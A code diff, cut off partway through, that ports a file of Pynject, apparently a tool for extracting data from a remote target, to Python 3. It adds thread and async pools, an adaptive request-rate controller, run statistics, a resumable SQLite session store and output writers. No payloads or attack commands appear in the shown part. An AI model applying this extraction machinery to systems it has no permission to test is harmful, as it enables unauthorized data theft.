@@ -1,4 +1,4 @@
-#!/usr/bin/env python3.1
+#!/usr/bin/env python3
 # This file is part of Pynject.
 #
 # Copyright(c) 2010-2011 Simone Margaritelli
@@ -18,7 +18,7 @@
 # or write to the Free Software Foundation, Inc.,
 # 51 Franklin Street, Fifth Floor, Boston, MA 02110-1301, USA.
 
-import sys, os, time, random, re, threading, urllib.request, urllib.error, urllib.parse
+import sys, os, io, csv, time, json, random, re, zlib, base64, queue, heapq, collections, shlex, hashlib, sqlite3, ssl, threading, asyncio, multiprocessing, concurrent.futures, http.client, urllib.error, urllib.parse, urllib.request
 from optparse import OptionParser, OptionGroup 
 
 # This class is a modified version of ProgressBar from BJ Dierkes <wdierkes@5dollarwhitebox.org>
@@ -32,6 +32,8 @@ class ProgressBar:
         self.span   = self.max - self.min
         self.width  = width
         self.amount = 0
+        # ( time, amount ) of the last seconds, for the rate and the ETA
+        self.samples = []
         self.update_amount(0) 
  
     def increment_amount(self, add_amount = 1):
@@ -46,7 +48,23 @@ class ProgressBar:
         if new_amount < self.min: new_amount = self.min
         if new_amount > self.max: new_amount = self.max
         self.amount = new_amount
+        self.sample()
         self.build_bar()
+
+    def sample(self):
+        now = time.time()
+        self.samples.append( ( now, self.amount ) )
+        while len(self.samples) > 2 and now - self.samples[0][0] > 10:
+            self.samples.pop(0)
+
+    def reset_rate(self):
+        # forget what happened before, like items resumed from a session
+        self.samples = [ ( time.time(), self.amount ) ]
+
+    def rate(self):
+        if len(self.samples) < 2 or self.samples[-1][0] <= self.samples[0][0]:
+            return None
+        return ( self.samples[-1][1] - self.samples[0][1] ) / ( self.samples[-1][0] - self.samples[0][0] )
  
     def build_bar(self):
         diff = float(self.amount - self.min)
@@ -60,6 +78,11 @@ class ProgressBar:
  
         percent_str = str(percent_done) + "%"
         self.bar = '[ ' + self.bar + ' ] ' + percent_str
+
+        rate = self.rate()
+        if rate:
+            eta = int( ( self.max - self.amount ) / rate )
+            self.bar += " {0:.1f}/s ETA {1}:{2:02d}:{3:02d}".format( rate, eta // 3600, eta // 60 % 60, eta % 60 )
  
     def __str__(self):
         return str(self.bar)
@@ -67,110 +90,2066 @@ class ProgressBar:
 class RunningException(Exception):
     pass
 
-class ThreadPool(threading.Thread):
-    def __init__( self, window_size, prototype, async=False ):
+class FetchStopped(Exception):
+    pass
+
+class ThreadPool:
+    def __init__( self, window_size, backlog = None, output = print ):
         """Initialize the thread pool object.
         
-            windows_size (int) : How many parallel threads can run.
-            prototype (class)  : Subclass of threading.Thread, the class to run.
-            async (bool)       : Set to true to run the pool asynchronously.
+            window_size (int) : How many long-lived worker threads to run.
+            backlog (int)     : Maximum number of jobs waiting in the queue (default twice the window size).
+            output (callable) : Prints the exceptions raised by the jobs, None to keep quiet.
         """
-        threading.Thread.__init__(self)
-        self.window    = window_size
-        self.prototype = prototype
-        self.left      = 0
+        self.window    = window_size if window_size > 0 else 1
+        self.output    = output
+        self.queue     = queue.Queue( backlog if backlog != None else self.window * 2 )
+        self.cancelled = threading.Event()
+        self.changed   = threading.Event()
+        self.lock      = threading.Lock()
+        self.workers   = []
+        self.feeder    = None
         self.running   = 0
+        self.done      = 0
         self.active    = False
-        self.pool      = []
-        self.slice     = None
-        self.async     = async
 
     def __str__(self):
-        return "Thread Pool( Prototype={0}, Window Size={1}, Asynchronous={2}, Running={3} )".format( self.prototype, self.window, self.async, self.running )
+        return "Thread Pool( Window Size={0}, Queued={1}, Running={2}, Done={3} )".format( self.window, self.queue.qsize(), self.running, self.done )
 
-    def pushArgs( self, *args ):
-        """Add to the queue a new instance of thread to run with give arguments."""
+    def start( self, jobs ):
+        """Start the workers and feed them the jobs (objects with a run() method) from the given iterable."""
         if self.active == True:
             raise RunningException("Thread pool already running")
-        else:
-            self.pool.append( self.prototype(*args) )
 
-    def run(self):
-        self.__start_threads()
+        self.active  = True
+        self.running = self.window
+        self.done    = 0
+        self.cancelled.clear()
+
+        self.workers = [ threading.Thread( target = self.__work ) for i in range(0,self.window) ]
+        self.feeder  = threading.Thread( target = self.__feed, args = ( iter(jobs), ) )
+        for thread in self.workers + [self.feeder]:
+            thread.daemon = True
+            thread.start()
 
-    def start(self):
-        """Start the pool."""
-        if self.active == True:
-            raise RunningException("Thread pool already running")
-        
-        if self.async == True:
-            super(ThreadPool,self).start()
-        else:
-            self.__start_threads()
-        
     def stop(self):
-        """Stop the pool."""
+        """Stop the pool, jobs already running will complete but no new one will be started."""
         if self.active == False:
             raise RunningException("Thread pool is not running")
         else:
-            self.active = False
+            self.cancelled.set()
+
+    def wait( self, timeout = None ):
+        """Wait for a job to complete or for the pool to stop, at most timeout seconds, return False on timeout."""
+        fired = self.changed.wait(timeout)
+        self.changed.clear()
+        return fired
+
+    def join( self, timeout = None ):
+        """Wait for the feeder and every worker to exit."""
+        for thread in [self.feeder] + self.workers:
+            if thread != None:
+                thread.join(timeout)
 
-    def __start_threads(self):
-        self.active = True
-        self.left   = len(self.pool)
-        while self.left and self.active == True:
-            self.slice   = self.pool[:self.window]
-            self.running = 0
+    def __feed( self, jobs ):
+        for job in jobs:
+            # block while the queue is full, but keep an eye on cancellation
+            while not self.cancelled.is_set():
+                try:
+                    self.queue.put( job, timeout = 0.1 )
+                    break
+                except queue.Full:
+                    pass
+            if self.cancelled.is_set():
+                break
+        # one end marker for each worker
+        for i in range(0,self.window):
+            while not self.cancelled.is_set():
+                try:
+                    self.queue.put( None, timeout = 0.1 )
+                    break
+                except queue.Full:
+                    pass
+
+    def __work(self):
+        try:
+            while not self.cancelled.is_set():
+                try:
+                    job = self.queue.get( timeout = 0.1 )
+                except queue.Empty:
+                    continue
                 
-            for thread in self.slice:
-                thread.start()
-                self.running += 1
-            for thread in self.slice:
-                if self.active == False:
-                    self.running = 0
+                if job == None:
                     break
-                    
-                thread.join()
-                self.pool.remove(thread)
+
+                try:
+                    job.run()
+                except Exception as e:
+                    if self.output != None:
+                        self.output( "! Exception in thread pool worker : {0}".format(e) )
+
+                with self.lock:
+                    self.done += 1
+                self.changed.set()
+        finally:
+            with self.lock:
                 self.running -= 1
-            self.left -= 1
-        self.active = False
+                if self.running == 0:
+                    self.active = False
+            self.changed.set()
+
+class AsyncPool:
+    def __init__( self, window_size, loop, backlog = None, output = print ):
+        """Initialize the coroutine pool object, it has the same interface of ThreadPool.
+        
+            window_size (int) : How many worker coroutines to run.
+            loop (loop)       : The asyncio event loop to run the workers on, running in another thread.
+            backlog (int)     : Maximum number of jobs waiting in the queue (default twice the window size).
+            output (callable) : Prints the exceptions raised by the jobs, None to keep quiet.
+        """
+        self.window    = window_size if window_size > 0 else 1
+        self.output    = output
+        self.loop      = loop
+        self.backlog   = backlog if backlog != None else self.window * 2
+        self.cancelled = threading.Event()
+        self.changed   = threading.Event()
+        self.future    = None
+        self.running   = 0
+        self.done      = 0
+        self.active    = False
+
+    def __str__(self):
+        return "Async Pool( Window Size={0}, Running={1}, Done={2} )".format( self.window, self.running, self.done )
+
+    def start( self, jobs ):
+        """Start the workers and feed them the jobs (objects with an arun() coroutine) from the given iterable."""
+        if self.active == True:
+            raise RunningException("Async pool already running")
+
+        self.active  = True
+        self.running = self.window
+        self.done    = 0
+        self.cancelled.clear()
+        self.future  = asyncio.run_coroutine_threadsafe( self.__run( iter(jobs) ), self.loop )
+
+    def stop(self):
+        """Stop the pool, jobs already running will complete but no new one will be started."""
+        if self.active == False:
+            raise RunningException("Async pool is not running")
+        else:
+            self.cancelled.set()
+
+    def wait( self, timeout = None ):
+        """Wait for a job to complete or for the pool to stop, at most timeout seconds, return False on timeout."""
+        fired = self.changed.wait(timeout)
+        self.changed.clear()
+        return fired
+
+    def join( self, timeout = None ):
+        """Wait for every worker to exit."""
+        if self.future != None:
+            try:
+                self.future.result(timeout)
+            except concurrent.futures.TimeoutError:
+                pass
+
+    async def __run( self, jobs ):
+        jqueue  = asyncio.Queue( self.backlog )
+        workers = [ asyncio.ensure_future( self.__work(jqueue) ) for i in range(0,self.window) ]
+        try:
+            await self.__feed( jobs, jqueue )
+            await asyncio.gather( *workers )
+        finally:
+            self.active = False
+            self.changed.set()
+
+    async def __put( self, jqueue, item ):
+        # block while the queue is full, but keep an eye on cancellation
+        while not self.cancelled.is_set():
+            try:
+                await asyncio.wait_for( jqueue.put(item), 0.1 )
+                return
+            except asyncio.TimeoutError:
+                pass
+
+    async def __feed( self, jobs, jqueue ):
+        while not self.cancelled.is_set():
+            # the iterable may block, so pull from it outside of the loop
+            job = await self.loop.run_in_executor( None, next, jobs, None )
+            if job == None:
+                break
+            await self.__put( jqueue, job )
+        # one end marker for each worker
+        for i in range(0,self.window):
+            await self.__put( jqueue, None )
+
+    async def __work( self, jqueue ):
+        try:
+            while not self.cancelled.is_set():
+                try:
+                    job = await asyncio.wait_for( jqueue.get(), 0.1 )
+                except asyncio.TimeoutError:
+                    continue
+
+                if job == None:
+                    break
+
+                try:
+                    await job.arun()
+                except Exception as e:
+                    if self.output != None:
+                        self.output( "! Exception in async pool worker : {0}".format(e) )
+
+                self.done += 1
+                self.changed.set()
+        finally:
+            self.running -= 1
+
+class ConcurrencyController:
+    def __init__( self, minimum, maximum, rate = None, adaptive = True, window = 100, tolerance = 2.0 ):
+        """Initialize the concurrency controller object, it limits the requests in flight and adjusts the limit AIMD style.
+
+            minimum (int)     : Lower bound of the number of requests in flight.
+            maximum (int)     : Upper bound of the number of requests in flight, also the starting one.
+            rate (float)      : Maximum number of requests started per second, None for no cap.
+            adaptive (bool)   : If False the limit stays at maximum and only the rate cap applies.
+            window (int)      : How many recent latencies to compute the percentiles on.
+            tolerance (float) : How many times the p90 latency may exceed the best p50 before backing off.
+        """
+        self.minimum   = minimum if minimum > 0 else 1
+        self.maximum   = maximum if maximum > self.minimum else self.minimum
+        self.rate      = rate
+        self.adaptive  = adaptive
+        self.tolerance = tolerance
+        self.limit     = float(self.maximum)
+        self.inflight  = 0
+        self.lock      = threading.Lock()
+        self.waiting   = collections.deque()
+        self.timer     = None
+        self.latencies = []
+        self.window    = window
+        self.samples   = 0
+        self.p50       = None
+        self.p90       = None
+        self.baseline  = None
+        self.slot      = 0.0
+        self.backoff   = 0.0
+        self.requests  = 0
+        self.errors    = 0
+
+    def __str__(self):
+        return "concurrency {0}/{1}".format( self.inflight, int(self.limit) )
+
+    def acquire(self):
+        """Block until a new request can be started."""
+        ticket = self.__enqueue( threading.Event(), None )
+        ticket[0].wait()
+
+    async def acquireAsync(self):
+        """Same as acquire, without blocking the event loop."""
+        loop   = asyncio.get_running_loop()
+        ticket = self.__enqueue( loop.create_future(), loop )
+        try:
+            await ticket[0]
+        except BaseException:
+            # cancelled while waiting, or right after being given the slot
+            self.__withdraw(ticket)
+            raise
+
+    def release( self, latency, error = False ):
+        """Account a finished request and adjust the limit, error is True for timeouts, dropped connections and 429/5xx responses."""
+        with self.lock:
+            self.inflight -= 1
+            self.requests += 1
+            now = time.time()
+            if error:
+                self.errors += 1
+                # halve at most once for each round trip, a burst of failures is a single congestion event
+                if self.adaptive and now >= self.backoff:
+                    self.__decrease( 0.5, now, latency )
+            else:
+                self.__sample(latency)
+                if self.adaptive:
+                    if self.baseline != None and self.p90 > self.baseline * self.tolerance and now >= self.backoff:
+                        self.__decrease( 0.9, now, latency )
+                    else:
+                        # about one more request in flight for each round trip
+                        self.limit = min( self.maximum, self.limit + 1.0 / self.limit )
+            self.__dispatch()
+
+    def __enqueue( self, waiter, loop ):
+        # a ticket is [ Event or Future, its event loop or None, granted ], waiters are served first come first served
+        with self.lock:
+            ticket = [ waiter, loop, False ]
+            self.waiting.append(ticket)
+            self.__dispatch()
+        return ticket
+
+    def __withdraw( self, ticket ):
+        with self.lock:
+            if ticket[2]:
+                self.inflight -= 1
+            else:
+                self.waiting.remove(ticket)
+            self.__dispatch()
+
+    def __dispatch(self):
+        # wake the oldest waiters, one for each free slot, and if the rate holds them back wake up again when the next start is due
+        while self.waiting and self.inflight < int(self.limit):
+            if self.rate != None:
+                now = time.time()
+                if self.slot > now:
+                    if self.timer == None:
+                        self.timer = threading.Timer( self.slot - now, self.__due )
+                        self.timer.daemon = True
+                        self.timer.start()
+                    return
+                self.slot = max( self.slot, now ) + 1.0 / self.rate
+            ticket         = self.waiting.popleft()
+            ticket[2]      = True
+            self.inflight += 1
+            if ticket[1] == None:
+                ticket[0].set()
+            else:
+                ticket[1].call_soon_threadsafe( ConcurrencyController.__resolve, ticket[0] )
+
+    def __due(self):
+        with self.lock:
+            self.timer = None
+            self.__dispatch()
+
+    @staticmethod
+    def __resolve( future ):
+        if not future.done():
+            future.set_result(True)
+
+    def __decrease( self, factor, now, latency ):
+        self.limit   = max( self.minimum, self.limit * factor )
+        self.backoff = now + ( self.p50 if self.p50 != None else latency )
+
+    def __sample( self, latency ):
+        self.latencies.append(latency)
+        if len(self.latencies) > self.window:
+            del self.latencies[0]
+        self.samples += 1
+        # sorting on every response is a waste, percentiles move slowly anyway
+        if self.samples % 10 == 0 or self.p50 == None:
+            ordered       = sorted(self.latencies)
+            self.p50      = ordered[ len(ordered) // 2 ]
+            self.p90      = ordered[ int( len(ordered) * 0.9 ) ]
+            if len(ordered) >= 10:
+                self.baseline = self.p50 if self.baseline == None else min( self.baseline, self.p50 )
+
+class RunStats:
+    # latency buckets per power of two, bucket bounds are off by 1/STEPS at most
+    STEPS   = 8
+    BUCKETS = 22 * STEPS
+
+    def __init__( self, filename = None, interval = None, window = 60 ):
+        """Initialize the run statistics, every thread records into its own counters so workers never wait on each other.
+
+            filename (str)   : JSON file the report is written to, None to keep it in memory.
+            interval (float) : Rewrite the report every this many seconds while running, None to write it only at the end.
+            window (int)     : How many of the latest intervals the report keeps, the whole timeline is appended
+                               to filename + '.timeline.jsonl' instead.
+        """
+        self.filename = filename
+        self.interval = interval
+        self.phase    = "setup"
+        self.local    = threading.local()
+        self.lock     = threading.Lock()
+        self.shards   = {}
+        self.retired  = {}
+        self.sources  = {}
+        self.timeline = collections.deque( maxlen = window )
+        self.started  = time.time()
+        self.stopped  = threading.Event()
+        self.thread   = None
+
+    def __str__(self):
+        return "Run Stats( File={0}, Phase={1} )".format( self.filename, self.phase )
+
+    def attach( self, name, source ):
+        """Add the value returned by source() to every report, under name."""
+        self.sources[name] = source
+
+    def start(self):
+        """Start writing periodic snapshots, if an interval was given."""
+        if self.interval != None and self.filename != None:
+            self.thread = threading.Thread( target = self.__snapshots )
+            self.thread.daemon = True
+            self.thread.start()
+
+    def stop(self):
+        """Stop the snapshots and write the final report."""
+        self.stopped.set()
+        if self.thread != None:
+            self.thread.join()
+        if self.filename != None:
+            self.write()
+
+    def request( self, latency, size, error = None, wire = None ):
+        """Account an HTTP request of the current phase, size is the decoded body bytes read, wire what it took on the network
+        and error the failure reason if any."""
+        counters = self.__counters()
+        counters["requests"] += 1
+        counters["bytes"]    += size
+        counters["wire"]     += wire if wire != None else size
+        counters["seconds"]  += latency
+        counters["latency"][ RunStats.bucket( int( latency * 1000 ) ) ] += 1
+        counters["sizes"][ min( 32, size.bit_length() ) ] += 1
+        if error != None:
+            counters["errors"][error] = counters["errors"].get( error, 0 ) + 1
+
+    def failure( self, reason ):
+        """Account an output that could not be extracted from a page."""
+        counters = self.__counters()
+        counters["failures"][reason] = counters["failures"].get( reason, 0 ) + 1
+
+    def report(self):
+        """Merge the counters of every thread and return the whole report as a dict."""
+        phases = {}
+        with self.lock:
+            self.__retire()
+            shards = list( self.shards.values() )
+            self.__merge( phases, self.retired )
+        for shard in shards:
+            self.__merge( phases, shard )
+
+        total  = self.__empty()
+        report = { "elapsed" : round( time.time() - self.started, 3 ), "phases" : {} }
+        for phase, counters in phases.items():
+            report["phases"][phase] = self.__summary(counters)
+            self.__add( total, counters )
+        report["total"]    = self.__summary(total)
+        report["timeline"] = list(self.timeline)
+        if self.thread != None:
+            report["timeline_file"] = self.filename + ".timeline.jsonl"
+        for name, source in self.sources.items():
+            report[name] = source()
+        return report
+
+    def write( self, report = None ):
+        report = report if report != None else self.report()
+        # never leave a half written report around for whoever is watching it
+        with open( self.filename + ".tmp", 'w' ) as fd:
+            json.dump( report, fd, indent = 2 )
+        os.replace( self.filename + ".tmp", self.filename )
+        return report
+
+    def __snapshots(self):
+        # every interval is appended to the timeline file, the report only keeps the latest ones so rewriting it costs the same all run long
+        last = { "requests" : 0, "bytes" : 0, "wire_bytes" : 0, "errors" : {} }
+        with open( self.filename + ".timeline.jsonl", 'w' ) as fd:
+            while not self.stopped.wait(self.interval):
+                report   = self.report()
+                total    = report["total"]
+                snapshot = { "elapsed"  : report["elapsed"],
+                             "phase"    : self.phase,
+                             "requests" : total["requests"] - last["requests"],
+                             "bytes"    : total["bytes"] - last["bytes"],
+                             "wire"     : total["wire_bytes"] - last["wire_bytes"],
+                             "errors"   : sum( total["errors"].values() ) - sum( last["errors"].values() ) }
+                last = total
+                self.timeline.append(snapshot)
+                fd.write( json.dumps(snapshot) + "\n" )
+                fd.flush()
+                report["timeline"] = list(self.timeline)
+                self.write(report)
+
+    def __counters(self):
+        shard = getattr( self.local, "shard", None )
+        if shard == None:
+            shard = self.local.shard = {}
+            with self.lock:
+                self.__retire()
+                self.shards[ threading.current_thread() ] = shard
+        counters = shard.get(self.phase)
+        if counters == None:
+            counters = shard[self.phase] = self.__empty()
+        return counters
+
+    def __retire(self):
+        # fold the counters of the threads that exited, so a run with many phases does not keep a shard for every worker it ever had
+        for thread, shard in list( self.shards.items() ):
+            if not thread.is_alive():
+                del self.shards[thread]
+                self.__merge( self.retired, shard )
+
+    def __merge( self, phases, shard ):
+        # a worker could add a phase while we walk them
+        for phase, counters in list( shard.items() ):
+            self.__add( phases.setdefault( phase, self.__empty() ), counters )
+
+    def __add( self, merged, counters ):
+        for key in ( "requests", "bytes", "wire", "seconds" ):
+            merged[key] += counters[key]
+        for key in ( "latency", "sizes" ):
+            merged[key] = [ a + b for a, b in zip( merged[key], counters[key] ) ]
+        for key in ( "errors", "failures" ):
+            for reason, count in list( counters[key].items() ):
+                merged[key][reason] = merged[key].get( reason, 0 ) + count
+
+    def __empty(self):
+        return { "requests" : 0, "bytes" : 0, "wire" : 0, "seconds" : 0.0, "latency" : [0] * RunStats.BUCKETS, "sizes" : [0] * 33, "errors" : {}, "failures" : {} }
+
+    def __summary( self, counters ):
+        # latency buckets split every power of two in STEPS, size bucket n holds values up to 2^n - 1
+        latency = dict( ( "<{0}".format( RunStats.bounds(n)[1] ), count ) for n, count in enumerate( counters["latency"] ) if count )
+        sizes   = dict( ( "<{0}".format( 2 ** n ), count ) for n, count in enumerate( counters["sizes"] ) if count )
+        return { "requests"       : counters["requests"],
+                 "bytes"          : counters["bytes"],
+                 "bytes_mean"     : counters["bytes"] // counters["requests"] if counters["requests"] else 0,
+                 "wire_bytes"     : counters["wire"],
+                 "wire_mean"      : counters["wire"] // counters["requests"] if counters["requests"] else 0,
+                 "latency_ms"     : dict( [ ( "mean", round( counters["seconds"] * 1000.0 / counters["requests"], 1 ) if counters["requests"] else 0 ),
+                                            ( "p50", self.__percentile( counters["latency"], 0.5 ) ),
+                                            ( "p90", self.__percentile( counters["latency"], 0.9 ) ),
+                                            ( "p99", self.__percentile( counters["latency"], 0.99 ) ),
+                                            ( "histogram", latency ) ] ),
+                 "response_bytes" : sizes,
+                 "errors"         : counters["errors"],
+                 "failures"       : counters["failures"] }
+
+    @staticmethod
+    def bucket( value ):
+        """Return the latency bucket of value, values below STEPS get a bucket each, then every power of two is split in STEPS."""
+        if value < RunStats.STEPS:
+            return value
+        octave = value.bit_length() - RunStats.STEPS.bit_length() + 1
+        return min( RunStats.BUCKETS - 1, octave * RunStats.STEPS + ( value >> ( octave - 1 ) ) - RunStats.STEPS )
+
+    @staticmethod
+    def bounds( n ):
+        """Return the ( lower, upper ) values of the latency bucket n, upper excluded."""
+        if n < RunStats.STEPS:
+            return ( n, n + 1 )
+        octave, step = divmod( n, RunStats.STEPS )
+        return ( ( RunStats.STEPS + step ) << ( octave - 1 ), ( RunStats.STEPS + step + 1 ) << ( octave - 1 ) )
+
+    def __percentile( self, buckets, fraction ):
+        # interpolate inside the bucket holding the percentile, as if its values were spread evenly
+        target = sum(buckets) * fraction
+        seen   = 0
+        for n, count in enumerate(buckets):
+            if count and seen + count >= target:
+                lower, upper = RunStats.bounds(n)
+                return round( lower + ( upper - lower ) * ( target - seen ) / count, 1 )
+            seen += count
+        return 0
+
+class Session:
+    def __init__( self, filename ):
+        """Initialize the session store, a SQLite file keeping counts and every fetched item of a target.
+
+            filename (str) : Path of the session file, created if it does not exist.
+        """
+        self.filename = filename
+        self.lock     = threading.Lock()
+        self.pending  = 0
+        self.last     = time.time()
+        self.db       = sqlite3.connect( filename, check_same_thread = False )
+        self.db.execute( "PRAGMA journal_mode=WAL" )
+        self.db.execute( "CREATE TABLE IF NOT EXISTS counts ( name TEXT PRIMARY KEY, value INTEGER )" )
+        self.db.execute( "CREATE TABLE IF NOT EXISTS items ( kind TEXT, name TEXT, idx INTEGER, value TEXT, PRIMARY KEY ( kind, name, idx ) )" )
+        self.db.commit()
+
+    def __str__(self):
+        return "Session( File={0} )".format( self.filename )
+
+    @staticmethod
+    def path( url ):
+        """Return the default session file for the given target url."""
+        host = urllib.parse.urlsplit(url).hostname
+        return os.path.join( os.path.expanduser("~"), ".pynject", "{0}-{1}.session".format( host, hashlib.md5( url.encode('utf-8') ).hexdigest()[:8] ) )
+
+    def getCount( self, name ):
+        with self.lock:
+            row = self.db.execute( "SELECT value FROM counts WHERE name = ?", ( name, ) ).fetchone()
+        return row[0] if row != None else None
+
+    def setCount( self, name, value ):
+        with self.lock:
+            self.db.execute( "INSERT OR REPLACE INTO counts VALUES ( ?, ? )", ( name, value ) )
+            self.db.commit()
+
+    def load( self, kind, name, start = 0, end = None ):
+        """Return a dictionary index -> value of the stored items of the given kind and name in the [start,end) range."""
+        with self.lock:
+            rows = self.db.execute( "SELECT idx, value FROM items WHERE kind = ? AND name = ? AND idx >= ? AND idx < ?",
+                                    ( kind, name, start, end if end != None else sys.maxsize ) ).fetchall()
+        return dict( ( index, json.loads(value) ) for index, value in rows )
+
+    def iterate( self, kind, name, start = 0, end = None, batch = 1000 ):
+        """Yield the ( index, value ) stored items in the [start,end) range in index order, reading them in batches."""
+        end = end if end != None else sys.maxsize
+        while start < end:
+            with self.lock:
+                rows = self.db.execute( "SELECT idx, value FROM items WHERE kind = ? AND name = ? AND idx >= ? AND idx < ? ORDER BY idx LIMIT ?",
+                                        ( kind, name, start, end, batch ) ).fetchall()
+            for index, value in rows:
+                yield index, json.loads(value)
+            if len(rows) < batch:
+                break
+            start = rows[-1][0] + 1
+
+    def missingRanges( self, kind, name, start, end ):
+        """Return the ( start, end ) ranges of indexes in [start,end) without a stored item."""
+        ranges = []
+        cursor = start
+        for index, value in self.iterate( kind, name, start, end ):
+            if index > cursor:
+                ranges.append( ( cursor, index ) )
+            cursor = index + 1
+        if cursor < end:
+            ranges.append( ( cursor, end ) )
+        return ranges
+
+    def store( self, kind, name, index, value ):
+        with self.lock:
+            self.db.execute( "INSERT OR REPLACE INTO items VALUES ( ?, ?, ?, ? )", ( kind, name, index, json.dumps(value) ) )
+            # commit in batches, a crash loses at most one second of work
+            self.pending += 1
+            if self.pending >= 100 or time.time() - self.last >= 1.0:
+                self.db.commit()
+                self.pending = 0
+                self.last    = time.time()
+
+    def close(self):
+        with self.lock:
+            self.db.commit()
+            self.db.close()
+
+class ResultList(list):
+    def __init__( self, size, offset = 0, session = None, kind = None, name = None ):
+        """Initialize the results container, a preallocated list counting the stored items and saving them to the session.
+
+            size (int)        : Number of items.
+            offset (int)      : Index of the first item in the whole result set.
+            session (Session) : Session to resume the items from and to save them to, or None.
+            kind (str)        : Kind of the items in the session.
+            name (str)        : Name of the items in the session.
+        """
+        list.__init__( self, [None] * size )
+        self.offset  = offset
+        self.session = session
+        self.kind    = kind
+        self.name    = name
+        self.lock    = threading.Lock()
+        self.filled  = 0
+        self.failed  = {}
+        # { absolute index : reason } of the items still missing after the requeue
+        self.holes   = {}
+        if session != None:
+            for index, value in session.load( kind, name, offset, offset + size ).items():
+                list.__setitem__( self, index - offset, value )
+                self.filled += 1
+
+    def __setitem__( self, index, value ):
+        with self.lock:
+            if value != None and self[index] == None:
+                self.filled += 1
+            list.__setitem__( self, index, value )
+        if value != None and self.session != None:
+            self.session.store( self.kind, self.name, index + self.offset, value )
+
+    def fail( self, index, reason ):
+        """Record an item that could not be fetched and why."""
+        with self.lock:
+            self.failed[ index + self.offset ] = reason
+
+    def failures(self):
+        """Return and forget the { absolute index : reason } of the failed items still missing."""
+        with self.lock:
+            failed, self.failed = self.failed, {}
+        return dict( ( index, reason ) for index, reason in failed.items() if list.__getitem__( self, index - self.offset ) == None )
+
+    def ranges(self):
+        """Return the ( start, end ) ranges of absolute indexes of the items not fetched yet."""
+        ranges = []
+        for index, value in enumerate(self):
+            if value == None:
+                if ranges and ranges[-1][1] == index + self.offset:
+                    ranges[-1] = ( ranges[-1][0], index + self.offset + 1 )
+                else:
+                    ranges.append( ( index + self.offset, index + self.offset + 1 ) )
+        return ranges
+
+class RecordWriter:
+    def __init__( self, filename ):
+        """Base class of the streaming output methods, every row is written together with its index.
+
+            filename (str) : Output file name.
+        """
+        self.filename = filename
+        self.fields   = None
+        self.written  = 0
+
+    def __str__(self):
+        return "{0}( File={1}, Written={2} )".format( self.__class__.__name__, self.filename, self.written )
+
+    @staticmethod
+    def create( method, filename ):
+        """Return the writer for the given output method."""
+        if method == "csv":
+            return CSVWriter(filename)
+        elif method == "jsonl":
+            return JSONLWriter(filename)
+        elif method == "sqlite":
+            return SQLiteWriter(filename)
+        raise Exception( "Unknown output method '{0}'.".format(method) )
+
+    @staticmethod
+    def reader( method, filename ):
+        """Return the ( name, fields, rows ) of an output written with the given method, rows yields ( index, row ) pairs."""
+        if method == "csv":
+            return CSVWriter.read(filename)
+        elif method == "jsonl":
+            return JSONLWriter.read(filename)
+        elif method == "sqlite":
+            return SQLiteWriter.read(filename)
+        raise Exception( "Unknown output method '{0}'.".format(method) )
+
+    def open( self, name, fields ):
+        """Start writing rows of the given table name and field names."""
+        self.fields = fields
+
+    def write( self, index, row ):
+        raise NotImplementedError()
+
+    def close(self):
+        pass
+
+class QueueWriter(RecordWriter):
+    def __init__( self, size = 1000 ):
+        """Initialize the queue writer, it hands the rows over to the thread iterating it, the writing threads block while it is full.
+
+            size (int) : Maximum number of rows waiting to be read.
+        """
+        RecordWriter.__init__( self, None )
+        self.queue   = queue.Queue(size)
+        self.stopped = False
+
+    def __str__(self):
+        return "Queue Writer( Waiting={0}, Written={1}, Stopped={2} )".format( self.queue.qsize(), self.written, self.stopped )
+
+    def __iter__(self):
+        # ( index, row ) pairs until the writer is closed
+        while True:
+            item = self.queue.get()
+            if item == None:
+                return
+            yield item
+
+    def write( self, index, row ):
+        if self.__put( ( index, row ) ):
+            self.written += 1
+
+    def close(self):
+        self.__put(None)
+
+    def stop(self):
+        """Drop the rows written from now on, and unblock the threads waiting to write one."""
+        self.stopped = True
+
+    def __put( self, item ):
+        while not self.stopped:
+            try:
+                self.queue.put( item, timeout = 0.1 )
+                return True
+            except queue.Full:
+                pass
+        return False
+
+class CSVWriter(RecordWriter):
+    def __init__( self, filename ):
+        RecordWriter.__init__( self, filename )
+        self.fd = None
+
+    def open( self, name, fields ):
+        RecordWriter.open( self, name, fields )
+        self.fd     = open( self.filename, 'w', newline = '' )
+        self.writer = csv.writer(self.fd)
+        self.writer.writerow( ['index'] + fields )
+
+    def write( self, index, row ):
+        self.writer.writerow( [index] + row )
+        self.written += 1
+
+    def close(self):
+        # nothing to close if nothing was ever written
+        if self.fd != None:
+            self.fd.close()
+            self.fd = None
+
+    @staticmethod
+    def read( filename ):
+        fd     = open( filename, newline = '' )
+        reader = csv.reader(fd)
+        fields = next( reader, [ 'index' ] )[1:]
+        def rows():
+            with fd:
+                for row in reader:
+                    yield int(row[0]), row[1:]
+        return os.path.splitext( os.path.basename(filename) )[0], fields, rows()
+
+class JSONLWriter(RecordWriter):
+    def __init__( self, filename ):
+        RecordWriter.__init__( self, filename )
+        self.fd = None
+
+    def open( self, name, fields ):
+        RecordWriter.open( self, name, fields )
+        self.fd = open( self.filename, 'w' )
+
+    def write( self, index, row ):
+        self.fd.write( json.dumps( { "index" : index, "record" : dict( zip( self.fields, row ) ) } ) + "\n" )
+        self.written += 1
+
+    def close(self):
+        # nothing to close if nothing was ever written
+        if self.fd != None:
+            self.fd.close()
+            self.fd = None
+
+    @staticmethod
+    def read( filename ):
+        with open(filename) as fd:
+            first = fd.readline()
+        fields = list( json.loads(first)["record"].keys() ) if first.strip() else []
+        def rows():
+            with open(filename) as fd:
+                for line in fd:
+                    if line.strip():
+                        item = json.loads(line)
+                        yield item["index"], list( item["record"].values() )
+        return os.path.splitext( os.path.basename(filename) )[0], fields, rows()
+
+class SQLiteWriter(RecordWriter):
+    def __init__( self, filename ):
+        RecordWriter.__init__( self, filename )
+        self.db = None
+
+    def open( self, name, fields ):
+        RecordWriter.open( self, name, fields )
+        self.db    = sqlite3.connect( self.filename, check_same_thread = False )
+        self.table = '"{0}"'.format( name.replace( '"', '""' ) )
+        self.db.execute( "DROP TABLE IF EXISTS {0}".format(self.table) )
+        self.db.execute( "CREATE TABLE {0} ( \"index\" INTEGER PRIMARY KEY, {1} )".format( self.table, ', '.join( '"{0}" TEXT'.format( field.replace( '"', '""' ) ) for field in fields ) ) )
+
+    def write( self, index, row ):
+        self.db.execute( "INSERT OR REPLACE INTO {0} VALUES ( {1} )".format( self.table, ','.join( '?' * ( len(row) + 1 ) ) ), [index] + row )
+        self.written += 1
+        if self.written % 1000 == 0:
+            self.db.commit()
+
+    def close(self):
+        if self.db != None:
